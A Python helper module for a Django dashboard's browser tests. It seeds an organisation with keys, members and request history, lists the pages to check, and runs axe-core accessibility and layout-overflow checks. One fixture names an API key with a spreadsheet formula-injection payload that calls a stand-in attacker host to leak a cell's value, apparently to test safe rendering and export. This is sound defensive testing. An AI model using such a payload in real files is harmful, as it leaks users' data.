"""Shared pieces of the dashboard's browser tests: a seeded organisation, signed-in sessions, every page.

`seed_dashboard` builds one organisation with enough of everything (keys, members, an invitation, a
provider key, 18 requests of which one failed, audit events, credit grants) that every dashboard page
has rows to lay out; `dashboard_pages` lists every page a browser can GET, enumerated against the URL
configuration so a new page cannot be left out of the layout and accessibility checks.
"""

from __future__ import annotations

import subprocess
from dataclasses import dataclass, field
from datetime import timedelta
from decimal import Decimal
from typing import Any

from tests.conftest import DEFAULT_CATALOG, ROOT

AXE = ROOT / "var" / "node" / "node_modules" / "axe-core" / "axe.min.js"
HOSTILE_KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
LONG_MODEL = "meta-llama/llama-3.1-405b-instruct"
PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1440, "height": 900}


@dataclass
class Seeded:
    org_id: int
    org_slug: str
    owner_cookie: str
    member_cookie: str
    key_id: int
    generation_id: str
    invitation_token: str
    errors: int = 1
    total: int = 18
    extra: dict[str, Any] = field(default_factory=dict)


def load_catalogs() -> None:
    from routing.catalog.loader import catalog_load
    from routing.catalog.snapshot import catalog

    catalog_load([DEFAULT_CATALOG])
    catalog_load([ROOT / "tests" / "data" / "sim_catalog.yaml"])
    catalog.clear()


def session_cookie(user: Any) -> str:
    from django.conf import settings
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client.cookies[settings.SESSION_COOKIE_NAME].value


def seed_dashboard(*, credits: str = "9.9997848", requests: int = 18) -> Seeded:
    """One organisation with an owner and a member (both verified), keys, requests and history."""
    from allauth.account.models import EmailAddress
    from django.utils import timezone

    from accounts import services as account_services
    from accounts.models import Membership, Role, User
    from billing.services import credits_grant
    from routing.models import Generation, Provider
    from routing.services import provider_key_save
    from switchyard.money import to_units
    from tests.factories import UserFactory, make_key, make_org

    load_catalogs()
    org = make_org(slug="acme-labs", credits=None)
    org.name = "Acme Labs"
    org.save(update_fields=["name"])
    credits_grant(organization=org, amount_usd=Decimal(credits), reason="Welcome grant")
    owner: User = UserFactory(email="olivia.owner@example.com", name="Olivia Owner")  # type: ignore[assignment]
    member: User = UserFactory(email="mark.member@example.com")  # type: ignore[assignment]
    for user in (owner, member):
        EmailAddress.objects.create(user=user, email=user.email, verified=True, primary=True)
    owner_membership = Membership.objects.create(user=owner, organization=org, role=Role.OWNER)
    Membership.objects.create(user=member, organization=org, role=Role.MEMBER)
    backend, _ = make_key(
        org, name="staging backend", created_by=owner, limit_usd=Decimal("5"), limit_reset="daily"
    )
    hostile, _ = make_key(org, name=HOSTILE_KEY_NAME, created_by=owner)
    make_key(org, name="member laptop", created_by=member)
    account_services.api_key_update(
        key=backend,
        name=backend.name,
        limit_usd=None,
        clear_limit=True,
        limit_reset="none",
        expires_at=None,
    )
    _, token = account_services.invitation_create(
        actor=owner_membership,
        email="new.person@example.com",
        role=Role.MEMBER,
        accept_url="http://testserver/invitations/{token}/",
    )
    openai = Provider.objects.filter(slug="openai").first()
    if openai is not None:
        provider_key_save(
            organization=org, provider=openai, api_key="sk-test-byok-1234567890abcd", user=owner
        )
    now = timezone.now()
    first_id = ""
    for i in range(requests):
        failed = i == 3
        gen = Generation.objects.create(
            id=f"gen-seed-{i:04d}",
            organization=org,
            api_key=hostile if i % 3 == 0 else backend,
            model=LONG_MODEL if i % 2 else "switchyard/sim-1",
            provider="simulated",
            status="error" if failed else "success",
            tokens_prompt=12 + i,
            tokens_completion=0 if failed else 30 + i,
            cost_units=0 if failed else to_units("0.0000132") * (i + 1),
            latency_ms=40 + i,
            error="upstream 500" if failed else "",
            created_at=now - timedelta(hours=5 * i),
            attempts=[
                {"provider": "simulated", "model": "switchyard/sim-1", "status": 200, "latency_ms": 40}
            ],
        )
        first_id = first_id or gen.id
    return Seeded(
        org_id=org.pk,
        org_slug=org.slug,
        owner_cookie=session_cookie(owner),
        member_cookie=session_cookie(member),
        key_id=backend.pk,
        generation_id=first_id,
        invitation_token=token,
        total=requests,
    )


def dashboard_pages(seeded: Seeded) -> dict[str, str]:
    """Every page a signed-in owner can GET: name → path. Public and sign-in pages included."""
    return {
        "landing": "/",
        "models": "/models",
        "model": "/models/openai/gpt-4o-mini",
        "docs": "/docs",
        "overview": "/dashboard/",
        "org-create": "/dashboard/organizations/new",
        "members": "/dashboard/members/",
        "keys": "/dashboard/keys/",
        "key-new": "/dashboard/keys/new",
        "key-edit": f"/dashboard/keys/{seeded.key_id}/edit",
        "credits": "/dashboard/credits/",
        "activity": "/dashboard/activity/",
        "generation": f"/dashboard/activity/{seeded.generation_id}",
        "playground": "/dashboard/playground/",
        "settings": "/dashboard/settings/",
        "byok": "/dashboard/settings/provider-keys/",
        "profile": "/dashboard/profile/",
        "audit": "/dashboard/audit/",
        "invitation": f"/invitations/{seeded.invitation_token}/",
        "not-found": "/no-such-page",
    }


# Routes of switchyard/urls_dashboard.py a browser never GETs as a page (POST actions, htmx partials,
# downloads, JSON), so `dashboard_pages` need not cover them.
NOT_PAGES = {
    "favicon",
    "org-switch",
    "member-role",
    "member-remove",
    "member-leave",
    "invitation-revoke",
    "key-action",
    "key-created",  # shown once after creating a key (tests/dashboard/test_browser_defects.py)
    "credits-fee",
    "credits-buy",
    "credits-auto-topup",
    "activity-csv",
    "playground-key",
    "byok-action",
}
PAGE_ROUTES = {
    "home": "landing",
    "models": "models",
    "model": "model",
    "docs": "docs",
    "invite-accept": "invitation",
    "dashboard": "overview",
    "org-create": "org-create",
    "members": "members",
    "keys": "keys",
    "key-new": "key-new",
    "key-edit": "key-edit",
    "credits": "credits",
    "activity": "activity",
    "generation": "generation",
    "playground": "playground",
    "settings": "settings",
    "byok": "byok",
    "profile": "profile",
    "audit": "audit",
}
PUBLIC = {"landing", "models", "model", "docs", "not-found"}
SIGNED_OUT_PAGES = {"login": "/accounts/login/", "signup": "/accounts/signup/"}


def axe_source() -> str:
    """axe-core from npm (fetched once into var/node, which is gitignored): no vendored copy to keep."""
    if not AXE.exists():
        subprocess.run(
            [
                "npm",
                "install",
                "--no-save",
                "--no-audit",
                "--no-fund",
                "--prefix",
                str(AXE.parents[2]),
                "axe-core@4",
            ],
            check=True,
            capture_output=True,
            timeout=300,
        )
    return AXE.read_text()


def axe_violations(page: Any, source: str) -> list[str]:
    """Run axe-core (WCAG 2 A and AA, best practices) in the page; one line per violation and node."""
    if not page.evaluate("() => typeof window.axe !== 'undefined'"):
        page.add_script_tag(content=source)
    result = page.evaluate(
        """async () => {
            const r = await axe.run(document, {resultTypes: ['violations']});
            return r.violations.map(v => v.id + ' (' + v.impact + '): ' + v.help + ' @ ' +
                v.nodes.slice(0, 4).map(n => n.target.join(' ') + ' ' + (n.failureSummary || '').split('\\n').slice(1, 2).join('')).join(' | '));
        }"""
    )
    return list(result)


def horizontal_overflow(page: Any) -> dict[str, Any] | None:
    """None when the page does not scroll sideways, else the width and the widest offenders."""
    return page.evaluate(
        """() => {
            const width = window.innerWidth;
            const doc = document.documentElement.scrollWidth;
            if (doc <= width) return null;
            const wide = [];
            for (const el of document.querySelectorAll('body *')) {
                const r = el.getBoundingClientRect();
                if (r.right > width + 1 && r.width > 0) wide.push(el.tagName.toLowerCase() + '.' + el.className + ' ' + Math.round(r.right));
            }
            return {scrollWidth: doc, innerWidth: width, offenders: wide.slice(0, 8)};
        }"""
    )


def open_as(browser: Any, base: str, cookie: str | None, viewport: dict[str, int], **kw: Any) -> Any:
    from django.conf import settings

    context = browser.new_context(viewport=viewport, **kw)
    if cookie:
        context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": base}])
    return context
